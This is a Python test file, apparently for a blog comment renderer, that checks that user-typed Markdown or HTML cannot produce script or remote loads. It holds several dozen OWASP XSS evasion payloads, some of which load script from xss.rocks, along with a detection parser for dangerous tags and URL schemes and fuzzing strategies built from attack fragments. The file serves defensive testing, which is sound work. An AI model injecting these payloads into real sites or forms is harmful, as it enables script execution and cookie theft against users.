"""Nothing a commenter types can make the rendered HTML run script or load anything."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from afterword.comments.render import REL, clean, markdown_html, render

ALLOWED_TAGS = {"p", "br", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
ALLOWED_ATTRS = {"a": {"href", "rel"}, "ol": {"start"}}

# OWASP XSS filter evasion cheat sheet, the shapes that still matter to a sanitiser.
OWASP = [
    "<script>alert('XSS')</script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" AllowScriptAccess=\"always\"></EMBED>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](\" onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "[a](https://ok.example \"title\" onclick=alert(1))",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
]

_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRS.get(tag, set()):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href":
                compact = "".join(ch for ch in (value or "") if ch > " ").lower()
                if compact.startswith(_DANGEROUS_SCHEMES) or not compact.startswith(
                        ("http://", "https://", "mailto:", "#", "/")) and ":" in compact.split(
                        "/")[0]:
                    self.problems.append(f"href {value!r}")
        if tag == "a" and dict(attrs).get("rel") != REL:
            self.problems.append("link without rel=nofollow ugc noopener")


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("vector", OWASP)
def test_owasp_vectors_render_inert(vector):
    assert audit(render(vector)) == []


def test_links_get_nofollow_ugc_noopener():
    assert render("[site](https://example.org)") == (
        '<p><a href="https://example.org" rel="nofollow ugc noopener">site</a></p>\n')


def test_images_and_headings_are_off():
    html = render("# Big\n\n![pixel](https://tracker.example/p.gif)")
    assert "<img" not in html and "<h1" not in html


_PIECES = st.sampled_from([
    "<", ">", "\"", "'", "`", "&", "#", ";", ":", "(", ")", "[", "]", "!", "*", "_", "\n",
    " ", "\t", "\\", "=", "/", "script", "javascript", "JaVaScRiPt", "onerror", "onload",
    "alert(1)", "img", "svg", "src", "href", "&#x6A;", "&#106;", "&colon;", "data:",
    "vbscript", "http://x.example", "<a ", "</a>", "<script>", "](", "```", "\x00", "\u2028",
])
_TEXTS = st.one_of(st.lists(_PIECES, max_size=40).map("".join), st.text(max_size=200),
                   st.sampled_from(OWASP))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_TEXTS)
def test_nothing_that_runs_script_survives(text):
    assert audit(render(text)) == []


def test_plain_words_become_paragraphs_and_line_breaks():
    text = "Thanks for the write-up, Ann!\nThe 7:15 ferry is late (again).\n\n\nSee you."
    assert render(text) == ("<p>Thanks for the write-up, Ann!<br>\nThe 7:15 ferry is late "
                            "(again).</p>\n<p>See you.</p>\n")


# Plain comments of every kind the direct path takes, and the near misses it must leave to
# markdown-it: words in several scripts, the punctuation of prose, numbers, blank lines,
# and now and then a character or a line start that means something in Markdown or HTML.
_WORDS = st.text(st.sampled_from(
    "aZéßжЖ中文ةعħ" "0123456789" ".,;:?!'\"%/@$^{}()-+=#"), min_size=1, max_size=8)
_ODD = st.sampled_from(["*", "_", "`", "[", "]", "<", ">", "&", "\\", "~", "|", "\t", "\r",
                        "\xa0", "\u2028", "\u200b", "\ufeff", "\x0c", "\x01", " ", "  ",
                        "1.", "1)", "-", "+", "#", ">", "    ", "===", "---", "\n", "&amp;",
                        "\u0301", "\ud800", "\x00", "😀"])
_FIRST = st.text(st.sampled_from("aZéßжЖ中文ةعħ"), min_size=1, max_size=3)  # opens a line
_PLAIN_LINE = st.tuples(_FIRST, st.lists(_WORDS, max_size=8)).map(
    lambda line: " ".join([line[0], *line[1]]))
_ODD_LINE = st.lists(st.one_of(_WORDS, _ODD), min_size=1, max_size=8).map(" ".join)
_COMMENTS = st.lists(st.one_of(*[_PLAIN_LINE] * 8, _ODD_LINE, st.just(""), st.just("")),
                     max_size=6).map("\n".join)


@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(_COMMENTS, _COMMENTS, _COMMENTS, _TEXTS))
def test_plain_comments_render_as_markdown_it_and_nh3_render_them(text):
    assert render(text) == markdown_html(clean(text))
